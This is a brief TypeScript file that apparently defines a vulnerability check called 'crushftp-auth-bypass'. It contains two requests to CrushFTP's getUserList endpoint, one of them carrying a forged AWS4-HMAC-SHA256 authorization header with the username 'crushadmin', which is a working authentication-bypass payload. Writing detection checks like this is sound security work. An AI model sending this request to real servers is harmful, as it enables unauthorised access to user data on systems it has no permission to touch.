import { type Proof, get, proof } from '#tags/proof/sketch.ts'

export const proofs: readonly Proof[] = [
  proof(
    'crushftp-auth-bypass',
    get('/WebInterface/function/?command=getUserList', {
      authorization: 'AWS4-HMAC-SHA256 Credential=crushadmin/',
    }),
    get('/WebInterface/function/?command=getUserList'),
  ),
]
